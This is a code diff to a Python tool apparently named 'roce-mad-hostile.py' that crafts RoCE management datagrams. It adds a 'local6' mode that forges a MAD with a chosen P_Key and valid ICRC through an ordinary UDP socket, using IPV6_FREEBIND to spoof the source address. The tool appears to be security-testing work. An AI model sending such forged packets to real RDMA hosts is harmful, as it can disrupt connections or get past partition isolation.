@@ -19,6 +19,12 @@ One REQ for PORT to DST's QP1, with BTH P_Key PKEY and DETH source QP
 SRC-QP, its rdma_cm header naming HDR-SRC (default SRC) as its source;
 prints what DST's QP1 sends back to SRC within 2 s ("answer: attr 0x0012
 to QP 0x000001", a REJ) or "no answer".
+
+       roce-mad-hostile.py local6 SRC SRC-IF DST DST-IF PKEY [freebind]
+One MAD with BTH P_Key PKEY and a good ICRC from [SRC%SRC-IF] to
+[DST%DST-IF]'s QP1 through an ordinary UDP socket, as any process of DST's
+host may send one (with IPV6_FREEBIND, SRC need not be an address of the
+host).
 """
 import importlib.util
 import os
@@ -35,6 +41,7 @@ rh = importlib.util.module_from_spec(_spec)
 _spec.loader.exec_module(rh)
 
 GSI_QKEY = 0x80010000
+IPV6_FREEBIND = 78                 # linux/in6.h
 UD_SEND_ONLY = 0x64
 MAD_LEN = 256
 # MAD header: base 1, class CM (7), version 2, method Send (3)
@@ -127,7 +134,22 @@ def probe(src, dst, pkey, src_qp, port, hdr_src):
     print("no answer")
 
 
+def local6(src, src_if, dst, dst_if, pkey, freebind):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    if freebind:
+        s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+    s.bind((src, 0, 0, socket.if_nametoindex(src_if)))
+    sport = s.getsockname()[1]
+    mad = mad_header(0x0010, random.randrange(1 << 64))
+    payload = qp1_packet(mad + bytes(MAD_LEN - len(mad)), pkey=pkey)
+    s.sendto(rh.icrc6(src, dst, sport, payload), (dst, 4791, 0, socket.if_nametoindex(dst_if)))
+
+
 def main():
+    if sys.argv[1] == "local6":
+        local6(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6], 0),
+               len(sys.argv) > 7 and sys.argv[7] == "freebind")
+        return
     if sys.argv[1] == "probe":
         src, dst = sys.argv[2:4]
         pkey, src_qp, port = (int(v, 0) for v in sys.argv[4:7])
